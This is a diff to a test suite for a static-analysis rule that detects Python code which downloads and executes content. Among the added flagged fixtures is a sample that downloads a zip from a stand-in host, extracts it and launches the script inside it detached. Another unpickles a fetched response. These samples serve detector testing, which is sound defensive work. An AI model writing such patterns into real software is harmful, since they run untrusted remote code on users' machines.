@@ -3,6 +3,8 @@ import rule from './py-download-exec.js';
 
 ruleTest(rule, {
   clean: [
+    { name: 'pickle cache read from a local file; a fetched JSON next to it', file: 'cache.py', code: `import pickle, requests\nmeta = requests.get('https://api.example.org/meta').json()\nwith open('cache.pkl', 'rb') as f:\n    index = pickle.load(f)\n` },
+    { name: 'downloaded dataset archive extracted, a local tool run on another folder', file: 'data.py', code: `import subprocess, urllib.request, zipfile\nurllib.request.urlretrieve('https://example.org/ds.zip', 'ds.zip')\nzipfile.ZipFile('ds.zip').extractall('data')\nsubprocess.run(['python', 'prepare.py', '--out', 'build'])\n` },
     { name: 'a renamed print fed a response', file: 'p.py', code: `import requests\nshow = print\nshow(requests.get("https://api.example.org/x").text)\n` },
     { name: 'a generated config file, then a tool run on it', file: 'gen.py', code: `import subprocess\nwith open('build.cfg', 'w') as f:\n    f.write("[build]\\n")\n    f.write("url = https://example.org/pkg\\n")\nsubprocess.run(["make", "-f", "build.cfg"])\n` },
     { name: 'a script written out that downloads nothing', file: 'w.py', code: `import subprocess\nwith open('/tmp/job.py', 'w') as f:\n    f.write("import subprocess\\nsubprocess.run(['ls'])\\n")\nsubprocess.call("python3 /tmp/job.py", shell=True)\n` },
@@ -28,6 +30,18 @@ ruleTest(rule, {
     { name: 'getattr(builtins, name) of a folded non-exec builtin fed a response', file: 'g.py', code: `import builtins, requests\nshow = getattr(builtins, 'pr' + 'int')\nshow(requests.get("https://api.example.org/x").text)\n` },
   ],
   flagged: [
+    {
+      name: 'pickle.loads of a response',
+      file: 'pkg/__init__.py',
+      code: `import pickle, requests\nstate = pickle.loads(requests.get('http://x.example/state').content)\n`,
+      findings: [{ line: 2, severity: 'critical', message: /pickle\.loads\(\) unpickles data downloaded/ }],
+    },
+    {
+      name: 'downloaded zip extracted, a script from it started',
+      file: 'main.py',
+      code: `import os, subprocess, sys, urllib.request, zipfile\nd = os.path.expanduser('~/.cache/x')\nz = os.path.join(d, 'p.zip')\nurllib.request.urlretrieve('http://x.example/pdown', z)\nzipfile.ZipFile(z).extractall(d)\nsubprocess.Popen([sys.executable, os.path.join(d, 'main.py')], start_new_session=True)\n`,
+      findings: [{ line: 6, severity: 'critical', message: /Runs the downloaded file d/ }],
+    },
     {
       name: 'exec of a response',
       file: 'main.py',
